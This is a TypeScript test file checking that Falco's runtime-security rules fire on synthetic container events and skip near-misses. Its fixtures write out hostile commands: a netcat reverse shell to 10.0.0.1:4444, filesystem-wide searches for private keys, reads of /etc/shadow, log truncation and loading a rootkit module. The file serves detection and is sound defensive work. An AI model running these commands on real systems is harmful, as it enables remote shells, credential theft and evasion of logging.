// Falco's own rules against events in Triad's RuntimeEvent shape. Each case is derived from what
// the rule's condition in falco-rules says (quoted in the comments), with a near-miss that the
// condition excludes.

import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { hasSharedData, sharedData } from '../../../test/shared-data.ts';
import type { ContainerInfo, RuntimeEvent } from '../event.ts';
import { HOST_CONTAINER } from '../event.ts';
import { loadFalcoRules, type LoadResult } from './load.ts';
import { ROOT_ONLY_RESOLVER } from './users.ts';

const RULES = 'runtime/falco-rules/rules';
const skip = !hasSharedData(RULES) && 'shared data runtime/falco-rules is absent';
const files = (...names: string[]) => names.map((n) => sharedData(RULES, n));

const APP: ContainerInfo = { id: '3f1c2a9b8d7e6f5a4b3c2d1e0f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f1a', name: 'web', image: 'docker.io/library/nginx:1.27', runtime: 'docker' };

let loaded: Map<string, LoadResult> | undefined;
function load(set: 'stable' | 'incubating' | 'sandbox'): LoadResult {
  loaded ??= new Map();
  let r = loaded.get(set);
  if (!r) {
    const extra = set === 'stable' ? [] : [`falco-${set}_rules.yaml`];
    r = loadFalcoRules(files('falco_rules.yaml', ...extra), { ruleMatching: 'all', ids: ROOT_ONLY_RESOLVER, hostNames: new Map([['10.96.0.1', 'kubernetes.default.svc.cluster.local']]) });
    loaded.set(set, r);
  }
  return r;
}

function fired(ev: RuntimeEvent, set: 'stable' | 'incubating' | 'sandbox' = 'stable'): string[] {
  return load(set).ruleset.evaluate(ev).map((m) => m.rule);
}

let seq = 0;
function exec(p: Partial<RuntimeEvent['process']> & { comm: string }, more: Partial<RuntimeEvent> = {}): RuntimeEvent {
  return {
    time: '2026-01-01T00:00:00.000Z', source: 'bpftrace', type: 'execve', category: 'process', ret: 0,
    container: APP,
    ...more,
    process: { pid: 1000 + ++seq, ppid: 999, uid: 0, euid: 0, tty: 0, argv: [p.comm], exe: `/usr/bin/${p.comm}`, ...p },
  };
}

function open(path: string, flags: string[], p: Partial<RuntimeEvent['process']> & { comm: string }, more: Partial<RuntimeEvent> = {}): RuntimeEvent {
  return {
    time: '2026-01-01T00:00:00.000Z', source: 'bpftrace', type: 'openat', category: 'file', ret: 3, container: APP,
    file: { path, flags, write: flags.some((f) => f === 'O_WRONLY' || f === 'O_RDWR') },
    ...more,
    process: { pid: 2000 + ++seq, uid: 0, euid: 0, tty: 0, argv: [p.comm], ...p },
  };
}

describe('Falco rule files load', { skip }, () => {
  for (const set of ['stable', 'incubating', 'sandbox'] as const) {
    it(`${set} set: no errors, every rule either compiled or listed unsupported with its fields`, () => {
      const r = load(set);
      assert.deepEqual(r.errors, []);
      const names = new Set([...r.ruleset.rules.map((x) => x.name), ...r.unsupported.map((u) => u.rule)]);
      assert.ok(r.ruleset.rules.length >= 20, `${r.ruleset.rules.length} rules compiled`);
      for (const u of r.unsupported) assert.ok(Object.keys(u.fields).length > 0, u.rule);
      // every rule in the files is accounted for
      assert.ok(names.has('Terminal shell in container'));
      if (set !== 'stable') assert.ok(r.ruleset.rules.length > load('stable').ruleset.rules.length);
    });
  }

  it('the rule needing proc.duration is unsupported, not silently false', () => {
    const u = load('stable').unsupported.find((x) => x.rule === 'Read sensitive file trusted after startup');
    assert.ok(u);
    assert.ok('proc.duration' in u.fields);
  });

  it('rules are indexed by the event types their conditions name', () => {
    const r = load('stable').ruleset;
    const shell = r.rules.find((x) => x.name === 'Terminal shell in container')!;
    assert.deepEqual(shell.eventTypes, { all: false, only: new Set(['execve', 'execveat']) });
    const open = r.rules.find((x) => x.name === 'Read sensitive file untrusted')!;
    assert.deepEqual(open.eventTypes, { all: false, only: new Set(['open', 'openat', 'openat2']) });
    assert.ok(r.rulesFor('procexit').length === 0);
  });
});

describe('stable rules fire on what their conditions describe', { skip }, () => {
  it('Terminal shell in container: shell + tty + container entrypoint parent', () => {
    const hit = exec({ comm: 'bash', tty: 34816, ancestors: [{ pid: 1, comm: 'containerd-shim' }] });
    assert.ok(fired(hit).includes('Terminal shell in container'));
    // "not proc.pname exists" also counts as entrypoint
    assert.ok(fired(exec({ comm: 'sh', tty: 34817 })).includes('Terminal shell in container'));
    assert.ok(!fired(exec({ comm: 'bash', tty: 0, ancestors: [{ pid: 1, comm: 'containerd-shim' }] })).includes('Terminal shell in container'), 'no tty');
    assert.ok(!fired(exec({ comm: 'bash', tty: 34816, ancestors: [{ pid: 1, comm: 'node' }] })).includes('Terminal shell in container'), 'parent not an entrypoint');
    assert.ok(!fired(exec({ comm: 'bash', tty: 34816 }, { container: HOST_CONTAINER })).includes('Terminal shell in container'), 'host');
    assert.ok(!fired(exec({ comm: 'python3', tty: 34816 })).includes('Terminal shell in container'), 'not a shell');
  });

  it('Read sensitive file untrusted: open_read of /etc/shadow by a non-trusted program', () => {
    assert.ok(fired(open('/etc/shadow', ['O_RDONLY'], { comm: 'cat', argv: ['cat', '/etc/shadow'] })).includes('Read sensitive file untrusted'));
    assert.ok(fired(open('/etc/pam.d/common-auth', ['O_RDONLY'], { comm: 'python3' })).includes('Read sensitive file untrusted'), 'fd.directory in (/etc/pam.d)');
    assert.ok(!fired(open('/etc/shadow', ['O_RDONLY'], { comm: 'sshd' })).includes('Read sensitive file untrusted'), 'sshd is in read_sensitive_file_binaries');
    assert.ok(!fired(open('/etc/shadow', ['O_RDONLY'], { comm: 'passwd' })).includes('Read sensitive file untrusted'), 'user_mgmt_binaries');
    assert.ok(!fired(open('/etc/hosts', ['O_RDONLY'], { comm: 'cat' })).includes('Read sensitive file untrusted'), 'not sensitive');
    assert.ok(!fired(open('/etc/shadow', ['O_RDONLY'], { comm: 'cat' }, { ret: -13 })).includes('Read sensitive file untrusted'), 'failed open: fd.num < 0');
    assert.ok(!fired(open('/etc/shadow', ['O_RDONLY'], { comm: 'cmp', ancestors: [{ pid: 5, comm: 'run-parts' }] })).includes('Read sensitive file untrusted'), 'cmp_cp_by_passwd');
  });

  it('Directory traversal monitored file read: ../ in the raw path, resolved under /etc', () => {
    const ev = open('/var/www/html/../../../etc/passwd', ['O_RDONLY'], { comm: 'php-fpm', ancestors: [{ pid: 9, comm: 'php-fpm' }] });
    const m = load('stable').ruleset.evaluate(ev).find((x) => x.rule === 'Directory traversal monitored file read');
    assert.ok(m);
    assert.equal(m.outputFields['fd.name'], '/etc/passwd');
    assert.equal(m.outputFields['fd.nameraw'], '/var/www/html/../../../etc/passwd');
    assert.ok(!fired(open('/etc/passwd', ['O_RDONLY'], { comm: 'php-fpm' })).includes('Directory traversal monitored file read'));
    assert.ok(!fired(open('/var/www/../../etc/passwd', ['O_RDONLY'], { comm: 'cat', ancestors: [{ pid: 9, comm: 'bash' }] })).includes('Directory traversal monitored file read'), 'parent is a shell');
  });

  it('Drop and execute new binary in container: exe from the upper layer', () => {
    assert.ok(fired(exec({ comm: 'xmrig', exeFromUpperLayer: true })).includes('Drop and execute new binary in container'));
    assert.ok(!fired(exec({ comm: 'xmrig', exeFromUpperLayer: false })).includes('Drop and execute new binary in container'));
    assert.ok(!fired(exec({ comm: 'xmrig', exeFromUpperLayer: true }, { container: HOST_CONTAINER })).includes('Drop and execute new binary in container'));
  });

  it('Fileless execution via memfd_create, except runc', () => {
    assert.ok(fired(exec({ comm: '3', exe: 'memfd:payload', exeFromMemfd: true })).includes('Fileless execution via memfd_create'));
    assert.ok(!fired(exec({ comm: 'runc', exeFromMemfd: true })).includes('Fileless execution via memfd_create'));
    assert.ok(!fired(exec({ comm: 'x', exeFromMemfd: true, ancestors: [{ pid: 3, comm: 'runc' }] })).includes('Fileless execution via memfd_create'), 'parent runc');
    assert.ok(!fired(exec({ comm: 'ls', exeFromMemfd: false })).includes('Fileless execution via memfd_create'));
  });

  it('Netcat Remote Code Execution in Container: nc -e / ncat --sh-exec', () => {
    assert.ok(fired(exec({ comm: 'nc', argv: ['nc', '10.0.0.1', '4444', '-e', '/bin/sh'] })).includes('Netcat Remote Code Execution in Container'));
    assert.ok(fired(exec({ comm: 'ncat', argv: ['ncat', '--sh-exec', 'sh', '10.0.0.1', '80'] })).includes('Netcat Remote Code Execution in Container'));
    assert.ok(!fired(exec({ comm: 'nc', argv: ['nc', '-z', '10.0.0.1', '80'] })).includes('Netcat Remote Code Execution in Container'));
  });

  it('Search Private Keys or Passwords: grep for BEGIN PRIVATE / find id_rsa', () => {
    assert.ok(fired(exec({ comm: 'grep', argv: ['grep', '-r', 'BEGIN RSA PRIVATE', '/'] })).includes('Search Private Keys or Passwords'));
    assert.ok(fired(exec({ comm: 'find', argv: ['find', '/', '-name', 'id_rsa'] })).includes('Search Private Keys or Passwords'));
    assert.ok(!fired(exec({ comm: 'grep', argv: ['grep', 'password', '/etc/app.conf'] })).includes('Search Private Keys or Passwords'), 'grep_more is never_true');
  });

  it('Clear Log Activities: O_TRUNC open_write under /var/log', () => {
    assert.ok(fired(open('/var/log/auth.log', ['O_WRONLY', 'O_TRUNC'], { comm: 'sh' })).includes('Clear Log Activities'));
    assert.ok(fired(open('/tmp/x/syslog', ['O_WRONLY', 'O_TRUNC'], { comm: 'sh' })).includes('Clear Log Activities'), 'fd.filename in (log_files)');
    assert.ok(!fired(open('/var/log/auth.log', ['O_WRONLY', 'O_APPEND'], { comm: 'sh' })).includes('Clear Log Activities'), 'no O_TRUNC');
    assert.ok(!fired(open('/var/log/auth.log', ['O_RDONLY'], { comm: 'sh' })).includes('Clear Log Activities'));
  });

  it('PTRACE attached to process: ATTACH / POKETEXT requests (names or numbers)', () => {
    const pt = (request: string | number): RuntimeEvent => ({ ...exec({ comm: 'gdb' }), type: 'ptrace', category: 'kernel', args: { request, pid: 42 } });
    assert.ok(fired(pt('PTRACE_ATTACH')).includes('PTRACE attached to process'));
    assert.ok(fired(pt(16)).includes('PTRACE attached to process'), '16 = PTRACE_ATTACH');
    assert.ok(fired(pt(0x4206)).includes('PTRACE attached to process'), 'PTRACE_SEIZE');
    assert.ok(!fired(pt('PTRACE_PEEKDATA')).includes('PTRACE attached to process'));
    assert.ok(fired(pt(0)).includes('PTRACE anti-debug attempt'), 'PTRACE_TRACEME');
  });

  it('Redirect STDOUT/STDIN to Network Connection in Container: dup2 of a socket onto fd 0-2', () => {
    const dup = (ret: number, family: 'ipv4' | 'unix'): RuntimeEvent => ({
      ...exec({ comm: 'bash' }), type: 'dup2', category: 'network', ret,
      net: { family, protocol: 'tcp', localAddr: '172.17.0.2', localPort: 40000, remoteAddr: '203.0.113.9', remotePort: 4444, path: family === 'unix' ? '/run/x.sock' : undefined },
    });
    assert.ok(fired(dup(1, 'ipv4')).includes('Redirect STDOUT/STDIN to Network Connection in Container'));
    assert.ok(!fired(dup(5, 'ipv4')).includes('Redirect STDOUT/STDIN to Network Connection in Container'), 'not a std stream');
    assert.ok(!fired(dup(0, 'unix')).includes('Redirect STDOUT/STDIN to Network Connection in Container'), 'unix socket');
  });

  it('Linux Kernel Module Injection Detected: init_module from a container with CAP_SYS_MODULE', () => {
    const mod = (caps: string[] | undefined, container: ContainerInfo = APP): RuntimeEvent => ({
      ...exec({ comm: 'insmod', argv: ['insmod', 'rootkit.ko'], capEffective: caps }, { container }), type: 'finit_module', category: 'kernel',
    });
    assert.ok(fired(mod(['CAP_SYS_ADMIN', 'CAP_SYS_MODULE'])).includes('Linux Kernel Module Injection Detected'));
    assert.ok(!fired(mod(['CAP_NET_ADMIN'])).includes('Linux Kernel Module Injection Detected'));
    assert.ok(!fired(mod(undefined)).includes('Linux Kernel Module Injection Detected'), 'capabilities unknown: no guess');
    assert.ok(!fired(mod(['CAP_SYS_MODULE'], HOST_CONTAINER)).includes('Linux Kernel Module Injection Detected'));
  });

  it('Create Symlink Over Sensitive Files: symlink whose target is /etc/shadow or /root', () => {
    // As the sensor records symlink(target, linkpath): file.path is the link, file.target what it points to.
    const ln = (target: string): RuntimeEvent => ({ ...open('/tmp/s', [], { comm: 'ln' }), type: 'symlinkat', ret: 0, file: { path: '/tmp/s', target, write: true } });
    assert.ok(fired(ln('/etc/shadow')).includes('Create Symlink Over Sensitive Files'));
    assert.ok(fired(ln('/root')).includes('Create Symlink Over Sensitive Files'));
    assert.ok(!fired(ln('/etc/hosts')).includes('Create Symlink Over Sensitive Files'));
  });

  it('Contact K8S API Server From Container: connect to the API service IP', () => {
    const conn = (remote: string, container: ContainerInfo = APP): RuntimeEvent => ({
      ...exec({ comm: 'curl' }, { container }), type: 'connect', category: 'network', ret: 0,
      net: { family: 'ipv4', protocol: 'tcp', localAddr: '172.17.0.2', localPort: 50000, remoteAddr: remote, remotePort: 443 },
    });
    const m = load('stable').ruleset.evaluate(conn('10.96.0.1')).find((x) => x.rule === 'Contact K8S API Server From Container');
    assert.ok(m);
    assert.equal(m.outputFields['fd.name'], '172.17.0.2:50000->10.96.0.1:443');
    assert.ok(!fired(conn('10.96.0.2')).includes('Contact K8S API Server From Container'));
    assert.ok(!fired(conn('10.96.0.1', { ...APP, k8s: { namespace: 'kube-system', pod: 'coredns' } })).includes('Contact K8S API Server From Container'), 'k8s_containers');
  });

  it('Packet socket created in container: socket(AF_PACKET)', () => {
    const sock = (domain: string | number): RuntimeEvent => ({ ...exec({ comm: 'tcpdump' }), type: 'socket', category: 'network', args: { domain, type: 3 } });
    assert.ok(fired(sock(17)).includes('Packet socket created in container'));
    assert.ok(fired(sock('AF_PACKET')).includes('Packet socket created in container'));
    assert.ok(!fired(sock(2)).includes('Packet socket created in container'));
  });

  it('Execution from /dev/shm and Debugfs in privileged container', () => {
    assert.ok(fired(exec({ comm: 'x', exe: '/dev/shm/x', argv: ['/dev/shm/x'] })).includes('Execution from /dev/shm'));
    assert.ok(!fired(exec({ comm: 'x', exe: '/usr/bin/x', argv: ['/usr/bin/x'] })).includes('Execution from /dev/shm'));
    assert.ok(fired(exec({ comm: 'debugfs' }, { container: { ...APP, privileged: true } })).includes('Debugfs Launched in Privileged Container'));
    assert.ok(!fired(exec({ comm: 'debugfs' }, { container: { ...APP, privileged: false } })).includes('Debugfs Launched in Privileged Container'));
  });

  it('Disallowed SSH Connection Non Standard Port: ssh connecting out to 443', () => {
    const ssh = (port: number, remote = '198.51.100.7'): RuntimeEvent => ({
      ...exec({ comm: 'ssh', argv: ['ssh', '-p', String(port), 'x'], exe: '/usr/bin/ssh' }), type: 'connect', category: 'network', ret: 0,
      net: { family: 'ipv4', protocol: 'tcp', localAddr: '172.17.0.2', localPort: 41000, remoteAddr: remote, remotePort: port },
    });
    assert.ok(fired(ssh(443)).includes('Disallowed SSH Connection Non Standard Port'));
    assert.ok(!fired(ssh(22)).includes('Disallowed SSH Connection Non Standard Port'));
    assert.ok(!fired(ssh(443, '10.1.2.3')).includes('Disallowed SSH Connection Non Standard Port'), 'RFC 1918 destination is not outbound');
  });
});

describe('incubating and sandbox rules', { skip }, () => {
  it('Write below etc (sandbox): open_write under /etc by a non-package-manager', () => {
    assert.ok(fired(open('/etc/crontab', ['O_WRONLY', 'O_CREAT'], { comm: 'vi' }), 'sandbox').includes('Write below etc'));
    assert.ok(!fired(open('/etc/crontab', ['O_WRONLY'], { comm: 'dpkg' }), 'sandbox').includes('Write below etc'), 'package_mgmt_binaries');
    assert.ok(!fired(open('/etc/crontab', ['O_RDONLY'], { comm: 'vi' }), 'sandbox').includes('Write below etc'));
  });

  it('Launch Privileged Container (incubating): pid 1 of a privileged container', () => {
    const priv = { ...APP, privileged: true };
    assert.ok(fired(exec({ comm: 'nginx', vpid: 1 }, { container: priv }), 'incubating').includes('Launch Privileged Container'));
    assert.ok(!fired(exec({ comm: 'nginx', vpid: 7 }, { container: priv }), 'incubating').includes('Launch Privileged Container'));
    assert.ok(!fired(exec({ comm: 'nginx', vpid: 1 }), 'incubating').includes('Launch Privileged Container'));
    assert.ok(!fired(exec({ comm: 'node', vpid: 1 }, { container: { ...priv, image: 'docker.io/calico/node:v3' } }), 'incubating').includes('Launch Privileged Container'), 'falco_privileged_images');
  });
});
